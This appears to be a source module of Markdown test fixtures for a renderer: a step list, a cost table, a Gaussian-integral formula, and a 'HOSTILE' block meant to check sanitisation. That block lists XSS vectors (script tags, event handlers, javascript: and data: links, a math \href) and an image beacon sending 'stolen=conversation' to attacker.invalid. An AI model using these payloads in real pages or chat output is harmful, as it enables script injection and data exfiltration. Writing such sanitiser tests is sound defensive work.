export const STEPS = `## One way to go about it

1. **Look** at what is there, without changing it.
2. **Choose** the smallest part that shows the problem.
   - Can you repeat it?
   - Does it still happen without the rest?
3. **Change** one thing, then look again.
4. **Write down** what you learned.

> Most of the time goes into step 2 – and it is well spent there.`;

export const TABLE = `### A comparison

| Option | Set-up | Cost per month | Suits |
| --- | :---: | ---: | --- |
| On one machine | minutes | € 0 | trying things out |
| Two processes and Redis | an hour | € 60 | a department |
| A cluster | a day | € 900 | everybody |

The second one is where most people stay. ✅`;

export const MATHS = `The area under a bell curve, $\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx$, is found by squaring it:

$$
\\left(\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx\\right)^2
= \\int_0^{2\\pi}\\!\\int_0^{\\infty} e^{-r^2}\\,r\\,dr\\,d\\theta
= \\pi
$$

so the area itself is $\\sqrt{\\pi} \\approx 1.77245$.`;

/** What must never come alive in a reader's browser. */
export const HOSTILE = `None of this may run or leave the page:

<script>window.__xss = 'script'</script>
<img src="x" onerror="window.__xss = 'onerror'">
<svg onload="window.__xss = 'svg'"><a xlink:href="javascript:window.__xss='xlink'">svg link</a></svg>
<iframe srcdoc="<script>parent.__xss = 'srcdoc'</script>"></iframe>
<a href="javascript:window.__xss='href'">an HTML link</a>
<details open ontoggle="window.__xss = 'toggle'">details</details>
<form action="https://attacker.invalid/"><button>send</button></form>

[a Markdown link](javascript:window.__xss='markdown') ·
[data](data:text/html,<script>parent.__xss='data'</script>) ·
![a picture that calls home](https://attacker.invalid/pixel.png?stolen=conversation)

\`\`\`html
<script>window.__xss = 'code'</script>
\`\`\`

$\\href{javascript:window.__xss='math'}{x}$`;
